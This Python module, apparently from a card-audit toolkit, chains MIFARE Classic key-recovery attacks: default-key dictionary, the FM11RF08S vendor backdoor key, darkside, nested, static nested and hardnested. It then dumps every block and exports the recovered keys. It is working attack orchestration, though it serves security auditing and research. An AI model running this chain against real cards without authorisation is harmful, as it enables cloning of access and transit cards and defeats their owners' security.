"""The whole MIFARE Classic key-recovery chain for one card, in the order Proxmark3's ``hf mf autopwn`` runs it.

dictionary → vendor backdoor (FM11RF08S static encrypted nonces) → darkside when no key is known (chips that leak
the encrypted NAK) → for every key still missing, the attack the chip's nonces allow (nested: weak PRNG; static
nested: static nonce; hardnested: hardened) from a known key → every new key tried on the other sectors → every
block read. Each stage runs only where it applies; the result says which ran, which could not and why, and keeps
every key found even when a later one runs out of the time budget. Frames only: the chip must pass raw frames
(an image in process, or a PN532).
"""

from __future__ import annotations

import time
from collections.abc import Callable, Iterable
from dataclasses import dataclass, field
from typing import Final

from audit import m1_attacks as attacks
from audit.m1_attacks import AttackFailed, PrngClass
from cardsim.files import JSONValue
from cardsim.mifare import BLOCK_SIZE, BLOCKS, TRANSPORT_ACCESS, key_b_readable
from terminals.m1 import FrameSlot, M1Chip, M1Error, M1Gone, M1Slot

Slot = tuple[int, int]  # (sector, 0x60 key A | 0x61 key B)
SECTORS: Final = 16
SLOTS: Final[tuple[Slot, ...]] = tuple((s, t) for s in range(SECTORS) for t in (0x60, 0x61))
KEY_LETTER: Final = {0x60: "A", 0x61: "B"}
# How a key was found, and the finding each attack is reported as (dictionary keys are M1-DEFAULT-KEY's).
DICTIONARY, FLEET, TRAILER, REUSED = "dictionary", "fleet key", "read from trailer", "reused"
ATTACK_RULES: Final = {
    "darkside": "M1-DARKSIDE",
    "nested": "M1-KEY-RECOVERED",
    "hardnested": "M1-HARDNESTED",
    "static nested": "M1-STATIC-NESTED",
    "backdoor": "M1-BACKDOOR-RECOVERY",
}
Progress = Callable[[str], None]
TRANSPORT_TRAILER: Final = bytes(6) + TRANSPORT_ACCESS + bytes(6)


@dataclass(frozen=True)
class FoundKey:
    """A sector key and how it fell; ``source`` names the slot a reused key was found on first."""

    key: int
    how: str
    seconds: float
    source: Slot | None = None


@dataclass(frozen=True)
class Stage:
    """One stage of the chain: ``outcome`` is ran, skipped or failed; ``why`` says what it did or why not."""

    name: str
    outcome: str
    why: str
    seconds: float = 0.0


@dataclass
class Autopwn:
    """Everything the chain learned about one card."""

    uid: bytes
    sak: int
    atqa: bytes
    prng: PrngClass | None  # None: not seen (the reader passes no raw frames)
    backdoor: bool
    keys: dict[Slot, FoundKey] = field(default_factory=dict)
    stages: list[Stage] = field(default_factory=list)
    blocks: list[bytes | None] = field(default_factory=lambda: [None] * BLOCKS)

    @property
    def missing(self) -> list[Slot]:
        """The slots whose key is still unknown."""
        return [slot for slot in SLOTS if slot not in self.keys]

    def table(self) -> str:
        """Sector | key A | key B | how found | seconds, as printed."""
        lines = ["sector  key A         key B         how found (A / B)                      seconds (A / B)"]
        for sector in range(SECTORS):
            cells = [self.keys.get((sector, t)) for t in (0x60, 0x61)]
            keys = [f"{c.key:012X}" if c else "?" * 12 for c in cells]
            hows = " / ".join(self.how(c) if c else "not found" for c in cells)
            secs = " / ".join(f"{c.seconds:.2f}" if c else "-" for c in cells)
            lines.append(f"{sector:>6}  {keys[0]}  {keys[1]}  {hows:<38} {secs}")
        lines.append(f"{len(self.keys)} of {len(SLOTS)} keys")
        return "\n".join(lines)

    def how(self, found: FoundKey) -> str:
        """How a key fell; a reused key names the slot and the way it fell there first."""
        if found.how != REUSED or found.source is None or found.source not in self.keys:
            return found.how
        first = self.keys[found.source]
        return f"reused ({first.how}, s{found.source[0]} {KEY_LETTER[found.source[1]]})"

    def dump(self) -> bytes:
        """The 1 KB image (.mfd/.bin): blocks as read, unread ones zero, trailers with the keys found (a card
        never reads back key A); a trailer that could not be read gets the transport access bits FF078069, never
        zeros, which a card writing the dump back would take as invalid and lock the sector with."""
        out = bytearray()
        for block in range(BLOCKS):
            read = self.blocks[block]
            data = bytearray(read or (TRANSPORT_TRAILER if block % 4 == 3 else bytes(BLOCK_SIZE)))
            if block % 4 == 3:
                sector = block // 4
                for key_type, at in ((0x60, 0), (0x61, 10)):
                    found = self.keys.get((sector, key_type))
                    if found is not None:
                        data[at : at + 6] = found.key.to_bytes(6)
            out += data
        return bytes(out)

    def to_json(self) -> dict[str, JSONValue]:
        """The dump as JSON (Proxmark3's layout: Card, blocks, SectorKeys), plus how each key fell."""
        image = self.dump()
        sector_keys: dict[str, JSONValue] = {}
        for sector in range(SECTORS):
            entry: dict[str, JSONValue] = {}
            for key_type in (0x60, 0x61):
                found = self.keys.get((sector, key_type))
                letter = KEY_LETTER[key_type]
                entry[f"Key{letter}"] = f"{found.key:012X}" if found else None
                entry[f"Key{letter}Found"] = found.how if found else None
            read = self.blocks[sector * 4 + 3] is not None
            entry["AccessConditions"] = image[sector * 64 + 54 : sector * 64 + 58].hex().upper() if read else None
            sector_keys[str(sector)] = entry
        return {
            "Created": "yikatong audit autopwn",
            "FileType": "mfc v2",
            "Card": {"UID": self.uid.hex().upper(), "ATQA": self.atqa[::-1].hex().upper(), "SAK": f"{self.sak:02X}"},
            "blocks": {
                str(b): (image[b * 16 : b * 16 + 16].hex().upper() if self.blocks[b] is not None else None)
                for b in range(BLOCKS)
            },
            "SectorKeys": sector_keys,
            "stages": [
                {"stage": s.name, "outcome": s.outcome, "why": s.why, "seconds": round(s.seconds, 2)}
                for s in self.stages
            ],
        }

    def key_file(self) -> str:
        """The distinct keys found, one per line: a dictionary other tools take (``hf mf chk -f``, mfoc -f)."""
        return "".join(f"{k:012X}\n" for k in sorted({f.key for f in self.keys.values()}))


class _Budget:
    def __init__(self, seconds: float | None) -> None:
        self.deadline = None if seconds is None else time.monotonic() + seconds

    def over(self) -> bool:
        """Whether the budget has run out."""
        return self.deadline is not None and time.monotonic() >= self.deadline

    def left(self) -> float | None:
        """Seconds left (None: no limit); AttackFailed when none are."""
        if self.deadline is None:
            return None
        if self.over():
            raise AttackFailed("the time budget ran out")
        return self.deadline - time.monotonic()


def autopwn(
    chip: M1Chip,
    *,
    max_seconds: float | None = None,
    dictionary: Iterable[int] = attacks.DEFAULT_KEYS,
    fleet_keys: Iterable[int] = (),
    hardnested_key_bits: tuple[int, int] | None = None,
    progress: Progress = lambda _: None,
) -> Autopwn:
    """Run the chain on ``chip`` (raw frames). ``fleet_keys`` (keys broken out of other cards, or a keys file)
    are tried after the public dictionary and before any attack. ``hardnested_key_bits`` (mask, value) fixes
    part of each unknown key for hardnested (a test-size search; say so wherever the result is shown). A card
    that leaves mid-chain ends it: the keys found so far are returned, with a stage saying so."""
    chip.power_on()
    uid, sak, atqa = chip.anticollision()
    prng = attacks.classify_prng(attacks.collect_nonces(chip, 8))
    chain = _Chain(Autopwn(uid, sak, atqa, prng, attacks.accepts_backdoor_key(chip)), FrameSlot(chip), progress)
    budget = _Budget(max_seconds)
    try:
        chain.dictionary(list(dictionary))
        chain.fleet_keys(list(fleet_keys))
        if chain.result.backdoor and chain.result.missing:
            chain.backdoor(chip, budget)
        if not chain.result.keys:
            chain.darkside(chip, budget)
        chain.per_key(chip, budget, hardnested_key_bits)
        chain.read_blocks()
        chip.power_on()
    except M1Gone as err:  # the card left or the reader failed: what was found stays found
        chain.result.stages.append(Stage("card", "failed", f"the chain stopped: {err}; keys found before are kept"))
    return chain.result


RAW_STAGES: Final = ("backdoor", "darkside", "nested / static nested / hardnested")


def autopwn_blocks(
    card: M1Slot,
    reader: str,
    *,
    dictionary: Iterable[int] = attacks.DEFAULT_KEYS,
    fleet_keys: Iterable[int] = (),
    progress: Progress = lambda _: None,
) -> Autopwn:
    """The part of the chain a block-level reader (PC/SC Part 3, named ``reader``) permits: the dictionary, the
    fleet keys, key B from readable trailers, and the dump; the attacks are listed as skipped (they need raw
    frames)."""
    # a Part 3 ATR naming Classic 1K implies SAK 08, ATQA 0004
    chain = _Chain(Autopwn(card.uid(), 0x08, b"\x04\x00", None, False), card, progress)
    try:
        chain.dictionary(list(dictionary))
        chain.fleet_keys(list(fleet_keys))
        for stage in RAW_STAGES:
            chain.result.stages.append(
                Stage(stage, "skipped", f"{reader} passes no raw frames (a PN532 does: --pn532)")
            )
        chain.read_blocks()
    except M1Gone as err:
        chain.result.stages.append(Stage("card", "failed", f"the chain stopped: {err}; keys found before are kept"))
    return chain.result


def _since(start: float) -> float:
    return time.perf_counter() - start


class _Chain:
    """The chain's state on one card: the result so far, a block-level slot on the card, the progress sink."""

    def __init__(self, result: Autopwn, card: M1Slot, progress: Progress) -> None:
        self.result, self.card, self.progress = result, card, progress
        self.uid = int.from_bytes(result.uid)

    def found(self, slot: Slot, key: int, how: str, seconds: float, source: Slot | None = None) -> None:
        """A key fell: keep it, say so, and read key B from the trailer when key A shows it readable."""
        found = FoundKey(key, how, seconds, source)
        self.result.keys[slot] = found
        name = self.result.uid.hex().upper()
        line = f"{slot[0]} key {KEY_LETTER[slot[1]]} = {key:012X} ({self.result.how(found)}, {seconds:.2f} s)"
        self.progress(f"M1 card {name}: sector {line}")
        if slot[1] == 0x60 and (slot[0], 0x61) not in self.result.keys:
            self._trailer_key_b(slot[0], key)

    def _trailer_key_b(self, sector: int, key_a: int) -> None:
        try:
            session = self.card.session()
            session.authenticate(sector * 4 + 3, key_a, 0x60)
            trailer = session.read_block(sector * 4 + 3)
        except M1Error:
            return
        if key_b_readable(trailer):
            self.found((sector, 0x61), int.from_bytes(trailer[10:16]), TRAILER, 0.0)

    def reuse(self, slot: Slot) -> None:
        """A new key tried on every slot still missing (fleets and lazy issuers repeat keys)."""
        key = self.result.keys[slot].key
        for other in self.result.missing:
            start = time.perf_counter()
            if other not in self.result.keys and attacks.try_key(self.card, other[0] * 4 + 3, key, other[1]):
                self.found(other, key, REUSED, _since(start), slot)

    def dictionary(self, keys: list[int]) -> None:
        """The public default keys on every slot."""
        start = time.perf_counter()
        for slot, key in attacks.dictionary_hits(self.card, keys, skip=self.result.keys):
            self.found(slot, key, DICTIONARY, 0.0)
        why = f"{len(self.result.keys)} of 32 keys from {len(keys)} keys"
        self.result.stages.append(Stage("dictionary", "ran", why, _since(start)))

    def fleet_keys(self, keys: list[int]) -> None:
        """Keys broken out of other cards (or given in a keys file), on every slot still missing."""
        fresh = [k for k in dict.fromkeys(keys) if k not in attacks.DEFAULT_KEYS]
        if not fresh or not self.result.missing:
            return
        start = time.perf_counter()
        before = len(self.result.keys)
        for slot, key in attacks.dictionary_hits(self.card, fresh, skip=self.result.keys):
            self.found(slot, key, FLEET, 0.0)
        why = f"{len(self.result.keys) - before} keys from {len(fresh)} keys found on other cards"
        self.result.stages.append(Stage("fleet keys", "ran", why, _since(start)))

    def backdoor(self, chip: M1Chip, budget: _Budget) -> None:
        """Sector by sector through the vendor key, each new key tried on the sectors still to come (a repeated
        key costs one authentication, not a recovery); a slot it cannot break is listed and the next sector
        tried; only the budget stops the stage."""
        from audit.static_nested import backdoor_recovery

        start = time.perf_counter()
        before = len(self.result.keys)
        notes: list[str] = []
        for sector in range(SECTORS):
            wanted = [(sector, t) for t in (0x60, 0x61) if (sector, t) not in self.result.keys]
            if not wanted:
                continue
            one = time.perf_counter()
            try:
                keys = backdoor_recovery(
                    chip, self.uid, max_seconds=budget.left(), progress=self.progress, sectors=[sector]
                )
            except AttackFailed as err:
                notes.append(f"stopped at sector {sector}: {err}")
                break
            for slot, key in sorted(keys.items()):
                if slot not in self.result.keys:
                    self.found(slot, key, "backdoor", _since(one) / len(keys))
                    self.reuse(slot)
            missed = [slot for slot in wanted if slot not in self.result.keys]
            if missed and budget.over():
                notes.append(f"stopped at sector {sector}: the time budget ran out")
                break
            notes += [f"sector {s} key {KEY_LETTER[t]} not found" for s, t in missed]
        outcome = "ran" if len(self.result.keys) > before else "failed"
        what = f"{len(self.result.keys) - before} keys through the vendor key A396EFA4E24F and its static nested nonces"
        self.result.stages.append(Stage("backdoor", outcome, "; ".join([what, *notes]), _since(start)))

    def darkside(self, chip: M1Chip, budget: _Budget) -> None:
        """One key with none known, on a chip that leaks the encrypted NAK."""
        from audit.darkside import darkside_attack

        start = time.perf_counter()
        try:
            key = darkside_attack(chip, (3, 0x60), max_seconds=budget.left(), progress=self.progress)
        except AttackFailed as err:
            self.result.stages.append(Stage("darkside", "failed", str(err), _since(start)))
            return
        self.found((0, 0x60), key, "darkside", _since(start))
        self.result.stages.append(Stage("darkside", "ran", "sector 0 key A with no key known", _since(start)))
        self.reuse((0, 0x60))

    def per_key(self, chip: M1Chip, budget: _Budget, key_bits: tuple[int, int] | None) -> None:
        """Every missing key by the attack the chip's nonces allow, from the first key known."""
        result = self.result
        if not result.missing:
            return
        attack = {PrngClass.WEAK: "nested", PrngClass.STATIC: "static nested", PrngClass.HARDENED: "hardnested"}[
            result.prng or PrngClass.HARDENED
        ]
        if not result.keys:
            result.stages.append(Stage(attack, "skipped", "it needs one known key and no stage found any"))
            return
        if result.backdoor:  # its nested nonces are static per slot: only the backdoor stage breaks them
            result.stages.append(Stage(attack, "skipped", "an FM11RF08S answers nested nonces fixed per slot"))
            return
        failures: list[str] = []
        start = time.perf_counter()
        done = 0
        for target in result.missing:
            if target in result.keys:
                continue  # a reused key, or key B read from its trailer, filled it meanwhile
            known_slot, known = next(iter(sorted(result.keys.items())))
            one = time.perf_counter()
            try:
                key = _run(
                    attack,
                    chip,
                    self.uid,
                    (known_slot[0] * 4 + 3, known.key, known_slot[1]),
                    (target[0] * 4 + 3, target[1]),
                    budget.left(),
                    key_bits,
                    self.progress,
                )
            except (AttackFailed, M1Error) as err:
                failures.append(f"sector {target[0]} key {KEY_LETTER[target[1]]}: {err}")
                if budget.over():
                    break
                continue
            self.found(target, key, attack, _since(one))
            done += 1
            self.reuse(target)
        why = f"{done} keys from sector {sorted(result.keys)[0][0]}'s key" + (
            f"; not found: {'; '.join(failures)}" if failures else ""
        )
        result.stages.append(Stage(attack, "ran" if done or not failures else "failed", why, _since(start)))

    def read_blocks(self) -> None:
        """Every block read with a known key of its sector that may read it (each try a fresh session: a refused
        READ ends the card's session)."""
        for block in range(BLOCKS):
            for key_type in (0x60, 0x61):
                known = self.result.keys.get((block // 4, key_type))
                if known is None:
                    continue
                try:
                    session = self.card.session()
                    session.authenticate(block | 3, known.key, key_type)
                    self.result.blocks[block] = session.read_block(block)
                except M1Error:
                    continue
                break


def _run(
    attack: str,
    chip: M1Chip,
    uid: int,
    known: tuple[int, int, int],
    target: tuple[int, int],
    left: float | None,
    key_bits: tuple[int, int] | None,
    progress: Progress,
) -> int:
    if attack == "nested":
        return attacks.nested_attack(chip, uid, known, target)
    if attack == "static nested":
        from audit.static_nested import static_nested_attack

        return static_nested_attack(chip, uid, known, target, max_seconds=left, progress=progress)
    from audit.hardnested import hardnested_attack

    return hardnested_attack(chip, uid, known, target, max_seconds=left, progress=progress, known_key_bits=key_bits)
